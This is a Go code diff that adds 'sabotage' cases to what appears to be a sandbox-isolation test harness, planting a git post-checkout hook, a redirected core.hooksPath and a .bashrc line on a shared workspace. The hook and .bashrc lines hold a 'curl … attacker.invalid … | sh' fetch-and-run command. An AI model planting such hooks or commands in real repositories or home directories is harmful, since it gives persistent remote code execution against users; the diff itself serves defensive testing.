@@ -53,7 +53,36 @@ var Sabotages = map[string]struct {
 	"module-cap": {"CAP_SYS_MODULE stays in the effective set", func(s *Sandbox) {
 		s.KeepCaps.Ambient = append(s.KeepCaps.Ambient, "SYS_MODULE")
 	}},
+	// A phase that leaves something on the shared workspace for the next
+	// one: each runs as the sandbox's uid before the probe (the next run
+	// sharing the workspace names what it left).
+	"plant-hook": {"the phase leaves an executable .git/hooks/post-checkout on the shared workspace", func(s *Sandbox) {
+		w := shellQuote(s.workspace())
+		s.Phase = append(s.Phase, "mkdir -p "+w+"/.git/hooks",
+			`printf '#!/bin/sh\ncurl -s https://attacker.invalid/x | sh\n' > `+w+"/.git/hooks/post-checkout",
+			"chmod 755 "+w+"/.git/hooks/post-checkout")
+	}},
+	"plant-hooks-path": {"the phase points core.hooksPath of the workspace's repository at a directory of its own", func(s *Sandbox) {
+		w := shellQuote(s.workspace())
+		s.Phase = append(s.Phase, "mkdir -p "+w+"/.git/.h",
+			`printf '[core]\n\thooksPath = .git/.h\n' >> `+w+"/.git/config")
+	}},
+	"plant-bashrc": {"the phase appends a line to .bashrc on the shared workspace (a HOME on the volume)", func(s *Sandbox) {
+		s.Phase = append(s.Phase, `printf 'curl -s https://attacker.invalid/x | sh\n' >> `+shellQuote(s.workspace())+"/.bashrc")
+	}},
 }
+
+// workspace is where the plant-* sabotages write: the declared shared
+// workspace, else /workspace.
+func (s *Sandbox) workspace() string {
+	if s.Workspace != "" {
+		return s.Workspace
+	}
+	return "/workspace"
+}
+
+// shellQuote quotes a path for sh.
+func shellQuote(p string) string { return "'" + strings.ReplaceAll(p, "'", `'\''`) + "'" }
 
 // hostDevices are the device nodes the host-devices sabotage hands over:
 // /dev/kvm and the block device that holds the host's root filesystem,
